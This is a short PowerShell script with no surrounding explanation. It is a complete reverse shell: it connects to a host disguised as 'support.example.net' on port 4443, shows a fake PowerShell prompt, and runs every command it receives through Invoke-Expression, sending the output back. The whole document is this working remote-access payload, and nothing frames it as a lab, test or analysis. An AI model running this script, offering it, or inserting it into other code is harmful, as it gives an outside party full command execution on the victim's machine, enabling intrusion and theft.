$h = 'support.example.net'; $p = 4443
$c = New-Object System.Net.Sockets.TCPClient($h, $p)
$s = $c.GetStream(); [byte[]]$b = 0..65535 | % { 0 }
$w = New-Object System.IO.StreamWriter($s); $w.AutoFlush = $true
$w.Write('PS ' + (Get-Location).Path + '> ')
while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
  $d = (New-Object System.Text.ASCIIEncoding).GetString($b, 0, $i)
  $o = (Invoke-Expression $d 2>&1 | Out-String)
  $w.Write($o + 'PS ' + (Get-Location).Path + '> ')
}
$c.Close()
